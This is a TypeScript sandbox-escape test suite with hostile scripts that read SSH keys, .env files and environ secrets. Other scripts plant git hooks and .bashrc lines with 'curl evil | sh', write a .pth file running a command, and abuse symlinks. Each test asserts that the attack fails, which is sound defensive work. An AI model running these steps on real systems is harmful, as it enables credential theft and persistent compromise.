/**
 * The escape suite, files and secrets: hostile scripts in Python, bash and TypeScript read keys
 * and other projects, write outside their outputs, read env secrets, modify the cache and the
 * repository, use Deno's closed APIs and the kernel surfaces the seccomp filter closes, and the
 * module graph; the granted cases still work. Each attack asserts that the attempt failed AND that
 * the host is unchanged (see _escape.ts).
 */
import assert from "node:assert/strict";
import { dirname, join } from "node:path";
import { PermissionError, ValidationError } from "../../src/errors.ts";
import { lstatSyncOrNull } from "../../src/_fs.ts";
import { runnerFolders } from "../../src/_runner_folder.ts";
import { runnerAddress, runnerKeyFile } from "../../src/cli/_runner_socket.ts";
import { denoDirKey } from "../../src/runtimes/deno.ts";
import { LINK_WALK_BUDGET } from "../../src/sandbox/deno.ts";
import { CLI, type CliResult, runCli } from "../helpers/cli.ts";

/** The checkout these tests run from (Capibara's code). */
const REPO_ROOT = new URL("../../", import.meta.url).pathname.replace(/\/$/, "");
import {
  type Attack,
  attack,
  CACHE,
  capibaraFor,
  escapeSuite,
  exists,
  HOME,
  neverRan,
  NO_SANDBOX,
  OS_SANDBOX,
  OTHER,
  OTHER_SECRET,
  PROJECT,
  py,
  ranMarker,
  ROOT,
  sh,
  SSH_KEY,
  SSH_SECRET,
  step,
  ts,
  underUmask,
} from "./_escape.ts";

// --- files -----------------------------------------------------------------------------------
for (
  const [language, script] of [
    [
      "python",
      py(`detail = open(${JSON.stringify(SSH_KEY)}).read()\nbreached = "hunter2" in detail`),
    ],
    ["bash", sh(`detail=$(cat ${SSH_KEY} 2>&1); case "$detail" in *hunter2*) breached=1;; esac`)],
    [
      "typescript",
      ts(
        `detail = Deno.readTextFileSync(${
          JSON.stringify(SSH_KEY)
        }); breached = detail.includes("hunter2");`,
      ),
    ],
  ] as const
) {
  attack({ name: "read ~/.ssh/id_rsa of the real HOME", language, script });
}
attack({
  name: "read ~/.ssh via $HOME and expanduser",
  language: "python",
  script: py(`p = os.path.expanduser("~/.ssh/id_rsa")
detail = p
breached = os.path.exists(p) and "hunter2" in open(p).read()`),
});
for (
  const [language, script] of [
    [
      "python",
      py(
        `breached = ${JSON.stringify(OTHER_SECRET)} in open(${
          JSON.stringify(join(OTHER, "secret.txt"))
        }).read()`,
      ),
    ],
    ["bash", sh(`grep -q "secret" ${join(OTHER, "secret.txt")} 2>/dev/null && breached=1`)],
    [
      "typescript",
      ts(
        `breached = Deno.readTextFileSync(${
          JSON.stringify(join(OTHER, "secret.txt"))
        }).includes("secret");`,
      ),
    ],
  ] as const
) {
  attack({ name: "read another project's file", language, script });
}

// The workdir shows what the run is given in it, not the rest of the project: its `.env`, its
// `.git/config` (a remote's token), a data file the context does not name.
const ENV_SECRET = "project-env-secret";
for (
  const [language, script] of [
    [
      "python",
      py(`for p in (".env", ".git/config", "data/in.txt"):
    try:
        detail += open(p).read()
        breached = True
    except OSError:
        pass
detail += " ".join(os.listdir("."))`),
    ],
    [
      "bash",
      sh(`for p in .env .git/config data/in.txt; do cat "$p" >/dev/null 2>&1 && breached=1; done
detail=$(ls -A . 2>&1 | tr '\n' ' ')`),
    ],
    [
      "typescript",
      ts(`for (const p of [".env", ".git/config", "data/in.txt"]) {
  try { detail += Deno.readTextFileSync(p); breached = true; } catch { /* closed */ }
}`),
    ],
  ] as const
) {
  attack({
    name: "read the project's files the context does not name (.env, .git/config)",
    language,
    script,
    before: () => Deno.writeTextFile(join(PROJECT, ".env"), `TOKEN=${ENV_SECRET}\n`),
    leaks: [ENV_SECRET],
  });
}

// A link the repository brings may not widen an input to the whole project or its repository.
const plantLink = (name: string, target: string) => async () => {
  await Deno.remove(join(PROJECT, name)).catch(() => {});
  await Deno.symlink(target, join(PROJECT, name));
};
for (
  const [name, target, input] of [
    ["wide", ".", "wide/"],
    ["gitdata", ".git", "gitdata/"],
    ["notes.txt", ".env", "notes.txt"],
  ] as const
) {
  attack({
    name: `read the project through a repository's link ${name} -> ${target} named as an input`,
    language: "python",
    context: { input: input },
    script: py(`for p in (".env", ".git/config", "${input}.env", "${input}config"):
    try:
        detail += open(p).read()
        breached = True
    except OSError:
        pass`),
    before: async () => {
      await Deno.writeTextFile(join(PROJECT, ".env"), `TOKEN=${ENV_SECRET}\n`);
      await plantLink(name, target)();
    },
    blockedBy: [ValidationError],
    leaks: [ENV_SECRET],
  });
}
// Under Deno's flags alone (no OS sandbox), Deno follows a link inside a granted folder wherever it
// leads: a repository's data/up -> .. would show the whole project.
attack({
  name:
    "read the project through a repository's link inside a granted folder, under Deno's flags alone",
  language: "typescript",
  context: { input: "data/" },
  options: { sandbox: false },
  script: ts(`for (const p of ["data/up/.env", "data/up/.git/config"]) {
  try { detail += Deno.readTextFileSync(p); breached = true; } catch { /* closed */ }
}`),
  before: async () => {
    await Deno.writeTextFile(join(PROJECT, ".env"), `TOKEN=${ENV_SECRET}\n`);
    await plantLink("data/up", "..")();
  },
  blockedBy: [PermissionError],
  leaks: [ENV_SECRET],
  async hostUnchanged() {
    await Deno.remove(join(PROJECT, "data", "up")).catch(() => {});
  },
});
// Under Deno's flags alone, a link in a folder the run may write leads a write wherever it points:
// Deno checks the path as written (`out/…`), the system follows the link.
attack({
  name:
    "write a read-only input through a repository's link in the output folder, under Deno's flags alone",
  language: "typescript",
  context: { input: "data/in.txt", output: "out/result.txt" },
  options: { sandbox: false },
  script: ts(`Deno.writeTextFileSync("out/in.txt", "OVERWRITTEN\\n");
breached = true;
detail = "wrote the input through out/in.txt";`),
  before: async () => {
    await Deno.mkdir(join(PROJECT, "out"), { recursive: true });
    await plantLink("out/in.txt", "../data/in.txt")();
  },
  blockedBy: [PermissionError],
  async hostUnchanged() {
    await Deno.remove(join(PROJECT, "out", "in.txt")).catch(() => {});
    assert.equal(await Deno.readTextFile(join(PROJECT, "data", "in.txt")), "input data\n");
  },
});
/** A project of its own (the shared one holds a link out, which would refuse the run anyway). */
const linkedProject = async (name: string, links: [string, string][]): Promise<string> => {
  const root = join(ROOT, name);
  await Deno.mkdir(join(root, ".git", "hooks"), { recursive: true });
  await Deno.writeTextFile(join(root, ".git", "config"), "[core]\n");
  await Deno.mkdir(join(root, "out"), { recursive: true });
  await Deno.writeTextFile(join(root, "README.md"), "a repository\n");
  for (const [link, target] of links) await Deno.symlink(target, join(root, link));
  return root;
};
const hookProject = await linkedProject("hook-project", [
  ["out/hooks", "../.git/hooks"],
  ["out/pre-push", "../.git/hooks/pre-push"],
]);
for (
  const [through, written] of [["out/hooks/pre-commit", "pre-commit"], [
    "out/pre-push",
    "pre-push",
  ]] as const
) {
  attack({
    name:
      `plant a git hook through a repository's link (${through}), the project as input, under Deno's flags alone`,
    language: "typescript",
    project: hookProject,
    context: { input: ".", output: "out/result.txt" },
    options: { sandbox: false },
    script: ts(
      `Deno.writeTextFileSync(${
        JSON.stringify(through)
      }, "#!/bin/sh\\necho owned\\n", { mode: 0o755 });
breached = true;
detail = "wrote a git hook through ${through}";`,
    ),
    blockedBy: [PermissionError],
    async hostUnchanged() {
      assert.equal(await exists(join(hookProject, ".git", "hooks", written)), false);
    },
  });
}
// The link check looks at so many entries, then refuses the run: what it did not look at could
// hold a link out.
const wideProject = await linkedProject("wide-project", []);
/** The folder the walk lists second, which holds the link (the first is padded). */
const wideSecond = await (async () => {
  const data = join(wideProject, "data");
  await Deno.mkdir(join(data, "p"), { recursive: true });
  await Deno.mkdir(join(data, "q"));
  // The walk lists a folder in the file system's order: the one listed first is padded.
  const [first, second] = [...Deno.readDirSync(data)].map((entry) => entry.name);
  for (let i = 0; i <= LINK_WALK_BUDGET; i++) {
    Deno.writeFileSync(join(data, first!, `${i}`), new Uint8Array());
  }
  await Deno.symlink(SSH_KEY, join(data, second!, "key"));
  return second!;
})();
attack({
  name:
    "read ~/.ssh through a link past the link check's budget in a large input folder, under Deno's flags alone",
  language: "typescript",
  project: wideProject,
  context: { input: "data/" },
  options: { sandbox: false },
  script: ts(
    `detail = Deno.readTextFileSync("data/${wideSecond}/key"); breached = detail.includes("hunter2");`,
  ),
  blockedBy: [PermissionError],
  leaks: [SSH_SECRET],
});

// A folder granted for writing is written in place, and Capibara's host-side steps (another run's
// binds of its inputs, the move of its outputs) follow what is there: a link a script leaves in it
// (or swaps in while another run checks its paths) would lead them anywhere on the host. Scripts
// make links in their temp dir only (Landlock; a TypeScript script in none: Deno's rule).
const SHARED = join(PROJECT, "shared");
await Deno.mkdir(SHARED, { recursive: true });
for (
  const [language, script] of [
    [
      "python",
      py(`for target, name in ((${JSON.stringify(SSH_KEY)}, "key"), ("/etc", "etc")):
    try:
        os.symlink(target, os.path.join(${JSON.stringify(SHARED)}, name))
        breached = True
    except OSError as e:
        detail += f"{name}: {e.errno} "`),
    ],
    [
      "bash",
      sh(`ln -s ${SSH_KEY} ${SHARED}/key 2>/dev/null && breached=1
ln -s /etc ${SHARED}/etc 2>/dev/null && breached=1`),
    ],
    [
      "typescript",
      ts(`Deno.symlinkSync(${JSON.stringify(SSH_KEY)}, ${JSON.stringify(`${SHARED}/key`)});
breached = true;`),
    ],
  ] as const
) {
  attack({
    name: "leave a link in a folder granted for writing, for another run's binds or outputs",
    language,
    allow: { write: [SHARED] },
    script,
    async hostUnchanged() {
      for (const name of ["key", "etc"]) {
        assert.equal(await exists(join(SHARED, name)), false, `${name} was made in shared/`);
      }
    },
  });
}
// Deno refuses a script Deno.symlink with scoped permissions, but not Deno.rename or Deno.link of
// a link already in a folder it writes in place (a repository's own): moved one folder up, a
// relative `../..` leads out of the project. A TypeScript run writing in place gets the same rule
// set on links as Python and bash.
const MOVED_LINKS = join(PROJECT, "shared-links");
attack({
  name: "move or hard-link a repository's link in a folder granted for writing, under Deno's flags",
  language: "typescript",
  allow: { write: [MOVED_LINKS] },
  before: async () => {
    await Deno.remove(MOVED_LINKS, { recursive: true }).catch(() => {});
    await Deno.mkdir(join(MOVED_LINKS, "docs"), { recursive: true });
    await Deno.symlink("../..", join(MOVED_LINKS, "docs", "up"));
    await Deno.symlink(SSH_KEY, join(MOVED_LINKS, "keylink"));
  },
  script: ts(`const S = ${JSON.stringify(MOVED_LINKS)};
for (const [name, move] of [
  ["link", () => Deno.linkSync(S + "/keylink", S + "/key")],
  ["rename", () => Deno.renameSync(S + "/docs/up", S + "/up")],
] as const) {
  try {
    move();
    breached = true;
    detail += name + ":done ";
  } catch (e) {
    detail += name + ":" + (e as Error).name + " ";
  }
}`),
  async hostUnchanged() {
    for (const name of ["key", "up"]) {
      assert.equal(
        await exists(join(MOVED_LINKS, name)),
        false,
        `${name} was made in shared-links/`,
      );
    }
    assert.equal((await Deno.lstat(join(MOVED_LINKS, "docs", "up"))).isSymlink, true);
  },
});
// Moving a folder asks nothing of its links: a folder holding a repository's `a/b/up -> ../..`,
// moved one folder up in a folder granted for writing, makes the link lead out of the grant. Only
// the run's own temp dir and staged outputs let a folder move into another folder.
for (
  const [language, script] of [
    [
      "python",
      (W: string) =>
        py(`os.rename(${JSON.stringify(`${W}/a/b`)}, ${JSON.stringify(`${W}/b`)})
breached = True
detail = os.path.realpath(${JSON.stringify(`${W}/b/up`)})`),
    ],
    // mv copies what it cannot move, and a copy's link is refused: the move is what counts.
    ["bash", (W: string) => sh(`mv ${W}/a/b ${W}/b 2>/dev/null; [ -L ${W}/b/up ] && breached=1`)],
    [
      "typescript",
      (W: string) =>
        ts(`Deno.renameSync(${JSON.stringify(`${W}/a/b`)}, ${JSON.stringify(`${W}/b`)});
breached = true;
detail = Deno.realPathSync(${JSON.stringify(`${W}/b/up`)});`),
    ],
  ] as const
) {
  const W = join(PROJECT, `moved-folder-${language}`);
  attack({
    name: "move a folder holding a repository's link up in a folder granted for writing",
    language,
    allow: { write: [W] },
    before: async () => {
      await Deno.remove(W, { recursive: true }).catch(() => {});
      await Deno.mkdir(join(W, "a", "b"), { recursive: true });
      await Deno.symlink("../..", join(W, "a", "b", "up"));
    },
    script: script(W),
    async hostUnchanged() {
      const moved = await Deno.lstat(join(W, "b", "up")).then(() => true, () => false);
      assert.equal(moved, false, `a/b and its link up -> ../.. moved up in ${W}`);
      assert.equal((await Deno.lstat(join(W, "a", "b", "up"))).isSymlink, true);
    },
  });
}
// An input named through a link inside the project is found by that name (and a folder's too).
attack({
  name: "an input named through a link inside the project is read by its name (granted)",
  language: "python",
  context: { input: "alias.txt", files: "datalink/" },
  script: py(
    `detail = open(ctx["input"]).read() + "|" + ",".join(sorted(os.listdir(ctx["files"])))`,
  ),
  before: async () => {
    await plantLink("alias.txt", "data/in.txt")();
    await plantLink("datalink", "data")();
  },
  granted: (output) => assert.match(String(output.detail), /^input data\n\|.*in\.txt/),
});

const PLANTED = join(OTHER, "planted.txt");
const noPlant = async () =>
  assert.equal(await exists(PLANTED), false, "a file was planted outside");
for (
  const [language, script] of [
    ["python", py(`open(${JSON.stringify(PLANTED)}, "w").write("x")\nbreached = True`)],
    ["bash", sh(`echo x > ${PLANTED} 2>/dev/null && breached=1`)],
    ["typescript", ts(`Deno.writeTextFileSync(${JSON.stringify(PLANTED)}, "x"); breached = true;`)],
  ] as const
) {
  attack({
    name: "write outside the outputs",
    language,
    script,
    context: { output: "out/result.txt" },
    hostUnchanged: noPlant,
  });
}
attack({
  name: "write into the workdir when only out/ is writable",
  language: "python",
  context: { output: "out/result.txt" },
  script: py(`open("sneaky.txt", "w").write("x")\nbreached = True`),
  hostUnchanged: async () => assert.equal(await exists(join(PROJECT, "sneaky.txt")), false),
});

for (
  const [name, context] of [
    ["a ../ context path", { input: "../other-project/secret.txt" }],
    ["an absolute context path outside", { input: join(OTHER, "secret.txt") }],
    ["a symlink in the workdir pointing out", { input: "data/link.txt" }],
    ["a ~ context path", { input: "~/.ssh/id_rsa" }],
    ["a nested ../ output path", { job: { output: "out/../../other-project/x.txt" } }],
  ] as const
) {
  attack({
    name: `refused before running: ${name}`,
    language: "python",
    context,
    script: py(`open(${JSON.stringify(ranMarker)}, "w").write("ran")\nbreached = True`),
    blockedBy: [ValidationError],
    hostUnchanged: neverRan,
  });
}
// A grant below a folder the sandbox never shows (the user's runner folder, with its keys and the
// plans a hit starts from; /etc/ssh): by its path, or by a link in the project leading there.
const RUNNER_PLANS = join(runnerFolders()[1]!, "plans");
const PLANS_LINK = join(PROJECT, "plans-link");
for (
  const [name, read] of [
    ["the runner folder's plans", RUNNER_PLANS],
    ["a link to the runner folder's plans", PLANS_LINK],
    // Where the machine has one (openssh's client).
    ...lstatSyncOrNull("/etc/ssh/ssh_config")
      ? [["a file in /etc/ssh", "/etc/ssh/ssh_config"]]
      : [],
  ] as const
) {
  attack({
    name: `refused before running: a grant below a folder never shown: ${name}`,
    language: "python",
    allow: { read: [read] },
    before: async () => {
      await Deno.mkdir(RUNNER_PLANS, { recursive: true, mode: 0o700 }).catch(() => {});
      await Deno.symlink(RUNNER_PLANS, PLANS_LINK).catch(() => {});
    },
    script: py(`open(${JSON.stringify(ranMarker)}, "w").write("ran")\nbreached = True`),
    blockedBy: [ValidationError],
    hostUnchanged: neverRan,
  });
}
// A trusted `.capibara/config.json` grants "data"; a link committed later makes it ~/.ssh. The
// trust covers the file's text: the grant must still lead inside the project.
const LINK_PROJECT = join(ROOT, "linked-project");
attack({
  name: "read ~/.ssh through a trusted config's grant that a committed link leads out",
  language: "python",
  project: LINK_PROJECT,
  options: { trustProjectConfig: true },
  before: async () => {
    await Deno.mkdir(join(LINK_PROJECT, ".capibara"), { recursive: true });
    await Deno.writeTextFile(
      join(LINK_PROJECT, ".capibara", "config.json"),
      JSON.stringify({ allow: { read: ["data"] } }),
    );
    await Deno.symlink(join(HOME, ".ssh"), join(LINK_PROJECT, "data")).catch(() => {});
  },
  script: py(`detail = open(${JSON.stringify(join(LINK_PROJECT, "data", "id_rsa"))}).read()
breached = "hunter2" in detail`),
  blockedBy: [ValidationError],
  leaks: ["hunter2"],
});
attack({
  name: "report an artifact outside the outputs",
  language: "python",
  context: { output: "out/result.txt" },
  script: py(`artifacts = ["../other-project/secret.txt"]`),
  blockedBy: [ValidationError],
});

// --- secrets ---------------------------------------------------------------------------------
for (
  const [language, script] of [
    ["python", py(`detail = os.environ.get("SECRET_TOKEN", "")\nbreached = "sk-live" in detail`)],
    ["bash", sh(`[ -n "\${SECRET_TOKEN:-}" ] && breached=1`)],
    ["typescript", ts(`breached = (Deno.env.get("SECRET_TOKEN") ?? "").includes("sk-live");`)],
  ] as const
) {
  attack({ name: "read an env secret that was not granted", language, script });
}
attack({
  name: "read secrets from /proc/1/environ and the parent's environ",
  language: "python",
  script: py(`found = ""
for pid in ["1", str(os.getppid()), "self"]:
    try:
        found += open(f"/proc/{pid}/environ", "rb").read().decode(errors="ignore")
    except Exception:
        pass
breached = "sk-live" in found`),
});
attack({
  name: "a granted env var is passed",
  language: "python",
  needs: { env: ["GRANTED_VAR"] },
  allow: { env: ["GRANTED_VAR"] },
  script: py(
    `detail = os.environ.get("GRANTED_VAR", "") + "|" + os.environ.get("SECRET_TOKEN", "")`,
  ),
  granted(o) {
    assert.equal(o.detail, "granted-value|");
  },
});
attack({
  name: "a need that was not granted stops the run",
  language: "python",
  needs: { env: ["SECRET_TOKEN"] },
  script: py(`open(${JSON.stringify(ranMarker)}, "w").write("ran")\nbreached = True`),
  blockedBy: [PermissionError],
  hostUnchanged: neverRan,
});

// --- the cache and the repository -------------------------------------------------------------
const storeHashes = async () => {
  const out: Record<string, string> = {};
  for await (const fp of Deno.readDir(join(PROJECT, ".capibara", "scripts"))) {
    for await (const f of Deno.readDir(join(PROJECT, ".capibara", "scripts", fp.name))) {
      out[`${fp.name}/${f.name}`] = await Deno.readTextFile(
        join(PROJECT, ".capibara", "scripts", fp.name, f.name),
      );
    }
  }
  return out;
};
for (
  const [language, script] of [
    [
      "python",
      py(`import glob
for path in glob.glob(${JSON.stringify(PROJECT)} + "/.capibara/scripts/*/script.py"):
    try:
        with open(path, "a") as fh:
            fh.write("\\n# ow" + "ned\\n")
        breached = True
    except OSError as exc:
        detail = repr(exc)`),
    ],
    [
      "bash",
      sh(
        `for f in ${PROJECT}/.capibara/scripts/*/script.sh ${PROJECT}/.capibara/scripts/*/script.py; do echo "# ow""ned" >> "$f" 2>/dev/null && breached=1; done`,
      ),
    ],
  ] as const
) {
  attack({
    name: "modify its own cached script (workdir writable)",
    language,
    context: { output: "result.txt" },
    script,
    hostUnchanged: async () => {
      for (const [name, text] of Object.entries(await storeHashes())) {
        assert.ok(!text.includes("# owned"), `${name} was modified`);
      }
    },
  });
}
attack({
  name: "plant a git hook and change .git/config (workdir writable)",
  language: "python",
  context: { output: "result.txt" },
  script: py(
    `for path, text in [(".git/hooks/pre-commit", "#!/bin/sh\\ncurl evil"), (".git/config", "[core]\\nfsmonitor = evil")]:
    try:
        with open(path, "a") as fh:
            fh.write(text)
        breached = True
    except OSError as exc:
        detail += repr(exc)`,
  ),
  hostUnchanged: async () => {
    assert.equal(await exists(join(PROJECT, ".git", "hooks", "pre-commit")), false);
    assert.equal(await Deno.readTextFile(join(PROJECT, ".git", "config")), "[core]\n");
  },
});
attack({
  name: "plant a shell start-up file in the writable workdir's HOME-like files",
  language: "bash",
  context: { output: "result.txt" },
  script: sh(
    `echo 'curl evil | sh' >> ${PROJECT}/.bashrc 2>/dev/null && [ -s ${PROJECT}/.bashrc ] && breached=0
echo 'curl evil | sh' >> ${HOME}/.bashrc 2>/dev/null && breached=1`,
  ),
  hostUnchanged: async () => assert.equal(await exists(join(HOME, ".bashrc")), false),
});

// --- Capibara's own folder inside a writable grant ----------------------------------------------
// The cache folder holds what later runs trust (environments, runtimes, trust records, acceptances,
// the sandbox's probe). A user who grants a folder that holds it (`--allow-write ~`) grants the
// script no way into it: it stays read-only; a grant or an output inside it is refused.
{
  const granted = join(ROOT, "granted-home");
  const state = join(granted, ".cache", "capibara");
  const planted = "PLANTED-IN-CAPIBARA-STATE";
  const scripts = [
    [
      "python",
      py(`done = []
for top, dirs, files in os.walk(${JSON.stringify(state)}):
    for name in files + ["planted.pth"]:
        try:
            with open(os.path.join(top, name), "a") as fh:
                fh.write(${JSON.stringify(planted)})
            done.append(name)
        except OSError as error:
            detail = repr(error)[:120]
breached = bool(done)
detail += " wrote: " + ",".join(done[:5])`),
    ],
    [
      "bash",
      sh(`for f in $(find ${state} -type f) ${state}/planted ${state}/venvs/planted; do
  echo ${planted} >> "$f" 2>/dev/null && { breached=1; detail="$detail $f"; }
done`),
    ],
    [
      "typescript",
      ts(`const walk = (dir: string) => {
  for (const e of Deno.readDirSync(dir)) {
    const path = dir + "/" + e.name;
    if (e.isDirectory) walk(path);
    else if (e.isFile) {
      try { Deno.writeTextFileSync(path, ${
        JSON.stringify(planted)
      }, { append: true }); breached = true; detail += path + " "; }
      catch (error) { detail = String(error).slice(0, 120); }
    }
  }
  try { Deno.writeTextFileSync(dir + "/planted", ${
        JSON.stringify(planted)
      }); breached = true; detail += dir + "/planted "; }
  catch { /* refused */ }
};
walk(${JSON.stringify(state)});`),
    ],
  ] as const;
  const untouched = async () => {
    const walk = async (dir: string): Promise<void> => {
      for await (const e of Deno.readDir(dir)) {
        const path = join(dir, e.name);
        assert.ok(!e.name.startsWith("planted"), `${path} was planted`);
        if (e.isDirectory) await walk(path);
        else if (e.isFile) {
          const bytes = await Deno.readFile(path);
          assert.ok(
            !new TextDecoder().decode(bytes).includes(planted),
            `${path} was written`,
          );
        }
      }
    };
    await walk(state);
  };
  for (const [language, script] of scripts) {
    attack({
      name: "write Capibara's own folder through a grant that holds it",
      language,
      allow: { write: [granted] },
      options: { cacheDir: state },
      before: () => Deno.mkdir(state, { recursive: true, mode: 0o700 }),
      script,
      hostUnchanged: untouched,
    });
  }
  // A read-only folder does not stop a script from moving a folder above it aside and making a
  // new one in its place, which the next run would take for Capibara's own (and start the sandbox
  // probe it finds there, outside any sandbox): every folder on the way stays where it is.
  for (
    const [language, script] of [
      [
        "bash",
        sh(`mv ${granted}/.cache ${granted}/.cache-old 2>/dev/null && detail="moved"
mkdir -p ${state} 2>/dev/null && echo ${planted} > ${state}/planted 2>/dev/null && { breached=1; detail="$detail planted"; }`),
      ],
      [
        "typescript",
        ts(
          `try { Deno.renameSync(${JSON.stringify(`${granted}/.cache`)}, ${
            JSON.stringify(`${granted}/.cache-old`)
          }); detail = "moved"; } catch (e) { detail = String(e).slice(0, 80); }
Deno.mkdirSync(${JSON.stringify(state)}, { recursive: true });
Deno.writeTextFileSync(${JSON.stringify(`${state}/planted`)}, ${
            JSON.stringify(planted)
          }); breached = true;`,
        ),
      ],
    ] as const
  ) {
    let identity = "";
    attack({
      name: "write Capibara's own folder: move a folder above it aside, make a new one",
      language,
      allow: { write: [granted] },
      options: { cacheDir: state },
      before: async () => {
        await Deno.mkdir(state, { recursive: true, mode: 0o700 });
        const info = await Deno.stat(state);
        identity = `${info.dev}:${info.ino}`;
      },
      script,
      hostUnchanged: async () => {
        const info = await Deno.stat(state);
        assert.equal(`${info.dev}:${info.ino}`, identity, "another folder is at the cache's path");
        assert.equal(await exists(`${granted}/.cache-old`), false, "a folder on the way moved");
        await untouched();
      },
    });
  }
  // Deno's cache folder holds the npm packages Capibara runs and their compiled code: a script
  // that patched one would run in Capibara's next command, outside any sandbox.
  const denoDir = join(granted, "deno-cache");
  const library = join(denoDir, "npm", "registry.npmjs.org", "canonicalize", "5.1.0", "index.js");
  attack({
    name: "patch an npm package in Deno's cache folder, which Capibara itself runs",
    language: "python",
    allow: { write: [granted] },
    options: {
      cacheDir: state,
      env: {
        PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin",
        HOME,
        DENO_DIR: denoDir,
      },
    },
    before: async () => {
      await Deno.mkdir(dirname(library), { recursive: true });
      await Deno.writeTextFile(library, "export default 1;\n");
    },
    script: py(`try:
    with open(${JSON.stringify(library)}, "a") as fh:
        fh.write("globalThis.pwned = 1;")
    breached = True
except OSError as error:
    detail = repr(error)
try:
    os.rename(${JSON.stringify(denoDir)}, ${JSON.stringify(denoDir + "-old")})
    breached = True
except OSError as error:
    detail += " " + repr(error)`),
    hostUnchanged: async () => {
      assert.equal(await Deno.readTextFile(library), "export default 1;\n");
    },
  });
  // A project's Python environment on PATH (activated): a name made in its bin/, or a .pth file
  // in its site-packages, would run in the next command that starts python, outside any sandbox
  // (Capibara's own environment builds start the python on PATH).
  const project = join(granted, "venv-project");
  const venv = join(project, ".venv");
  const sitePackages = join(venv, "lib", "python3", "site-packages");
  attack({
    name: "plant a command and a .pth file in the project's environment on PATH",
    language: "python",
    allow: { write: [project] },
    options: {
      cacheDir: state,
      env: { PATH: `${venv}/bin:${Deno.env.get("PATH") ?? "/usr/bin:/bin"}`, HOME },
    },
    before: async () => {
      await Deno.mkdir(join(venv, "bin"), { recursive: true });
      await Deno.mkdir(sitePackages, { recursive: true });
      await Deno.writeTextFile(join(venv, "pyvenv.cfg"), "home = /usr/bin\n");
    },
    script: py(`done = []
for path, text in (
    (${JSON.stringify(join(venv, "bin", "git"))}, "#!/bin/sh\\necho pwned\\n"),
    (${JSON.stringify(join(sitePackages, "planted.pth"))}, "import os; os.system('id')\\n"),
):
    try:
        with open(path, "w") as fh:
            fh.write(text)
        done.append(path)
    except OSError as error:
        detail += repr(error)[:80]
breached = bool(done)
detail += " wrote: " + ",".join(done)`),
    hostUnchanged: async () => {
      assert.equal(await exists(join(venv, "bin", "git")), false);
      assert.equal(await exists(join(sitePackages, "planted.pth")), false);
    },
  });
  const refused: [string, Partial<Attack>][] = [
    ["a writable grant inside Capibara's own folder", { allow: { write: [join(state, "venvs")] } }],
    ["an output folder inside Capibara's own folder", {
      project: granted,
      context: { output: ".cache/capibara/venvs/x.txt" },
    }],
    ["an output folder that holds Capibara's own folder", {
      project: granted,
      context: { output: ".cache/x.txt" },
    }],
    // Every place a program of the user's starts from lies in the home folder.
    ["a writable grant of the home folder", { allow: { write: [HOME] } }],
    ["a writable grant holding the home folder", { allow: { write: [ROOT] } }],
    // Runs keep their temp dirs and their sandboxes' state dirs (with the journal a later
    // command follows to give lent trees back) in the temp folder: a state dir planted there
    // would be taken for a killed run's.
    ["a writable grant of the temp folder", {
      allow: { write: [Deno.env.get("TMPDIR") || "/tmp"] },
    }],
    // A deno.json put above the checkout's files would re-map Capibara's own modules.
    ["a writable grant holding the checkout Capibara runs from", {
      allow: { write: [dirname(REPO_ROOT)] },
    }],
    // Each run finds the cache folder by the way it is given: a link on it in a writable grant
    // could be pointed at a folder of the script's.
    ["a writable grant holding a link on the way to Capibara's own folder", {
      allow: { write: [granted] },
      options: { cacheDir: join(granted, "state-link", "capibara") },
    }],
  ];
  for (const [name, over] of refused) {
    attack({
      name: `refused before running: ${name}`,
      language: "python",
      options: { cacheDir: state },
      ...over,
      before: async () => {
        await Deno.mkdir(join(state, "venvs"), { recursive: true, mode: 0o700 });
        await Deno.mkdir(join(ROOT, "linked-state", "capibara"), { recursive: true, mode: 0o700 });
        await Deno.symlink(join(ROOT, "linked-state"), join(granted, "state-link")).catch(() => {});
      },
      script: py(`open(${JSON.stringify(ranMarker)}, "w").write("ran")\nbreached = True`),
      blockedBy: [ValidationError],
      hostUnchanged: async () => {
        await neverRan();
        await untouched();
      },
    });
  }
}

// --- TypeScript: the code cache a run starts with ----------------------------------------------
{
  // A run without packages starts with a copy of the seed of Deno's compiled built-ins, in its own
  // DENO_DIR. V8 loads a code cache unchecked: a script that could write its copy, then import a
  // built-in it had not loaded, would run bytes of its own as Deno's code (a review patched
  // `node:os`'s devNull that way, and crashed Deno with random bytes). It may write neither its
  // copy nor the seed the next runs copy.
  const seed = join(CACHE, "deno", await denoDirKey([]), "v8_code_cache_seed");
  const planted = "PLANTED-V8-CODE-CACHE";
  attack({
    name: "rewrite the code cache Deno loads built-ins from, then import one",
    language: "typescript",
    script: ts(`const arg = Deno.args[Deno.args.indexOf("--context") + 1] ?? "";
const own = arg.slice(1, arg.lastIndexOf("/")) + "/.deno/v8_code_cache_v2";
const tries: [string, () => unknown][] = [
  ["patch the copy", () => {
    const bytes = Deno.readFileSync(own);
    const from = new TextEncoder().encode("/dev/null");
    const to = new TextEncoder().encode("/PWNED/xx");
    for (let i = 0; i + from.length <= bytes.length; i++) {
      if (from.every((b, j) => bytes[i + j] === b)) bytes.set(to, i);
    }
    Deno.writeFileSync(own, bytes);
  }],
  ["replace the copy", () => {
    Deno.writeTextFileSync(own + ".new", ${JSON.stringify(planted)});
    Deno.renameSync(own + ".new", own);
  }],
  ["remove the copy", () => Deno.removeSync(own)],
  ["write the copy's journal", () => Deno.writeTextFileSync(own + "-wal", ${
      JSON.stringify(planted)
    })],
  ["write the seed", () => Deno.writeTextFileSync(${JSON.stringify(seed)}, ${
      JSON.stringify(planted)
    })],
];
for (const [name, attempt] of tries) {
  try {
    attempt();
    breached = true;
    detail += name + ": done; ";
  } catch (error) {
    detail += name + ": " + String(error).slice(0, 60) + "; ";
  }
}
const os = await import("node:os");
if (os.devNull !== "/dev/null") breached = true;`),
    hostUnchanged: async () => {
      const bytes = await Deno.readFile(seed);
      assert.ok(
        !new TextDecoder("latin1").decode(bytes).includes(planted),
        "BREACH: the seed holds what the run planted",
      );
      // The next run of another script starts from the seed, and runs.
      const next = capibaraFor({
        name: "after a planted code cache",
        language: "typescript",
        script: ts(
          `const { format } = await import("node:util");\ndetail = format("%s-%d", "ran", 7);`,
        ),
      });
      const r = await next.run("escape test: after a planted code cache", {
        context: {},
        language: "typescript",
      });
      assert.equal(r.output.detail, "ran-7", JSON.stringify(r));
    },
  });
}

// --- TypeScript: Deno permissions --------------------------------------------------------------
attack({
  name: "Deno.Command to run a shell",
  language: "typescript",
  script: ts(`const out = new Deno.Command("sh", { args: ["-c", "echo pwned"] }).outputSync();
breached = new TextDecoder().decode(out.stdout).includes("pwned");`),
});
attack({
  name: "Deno.run (removed API) and a spawn of deno -A",
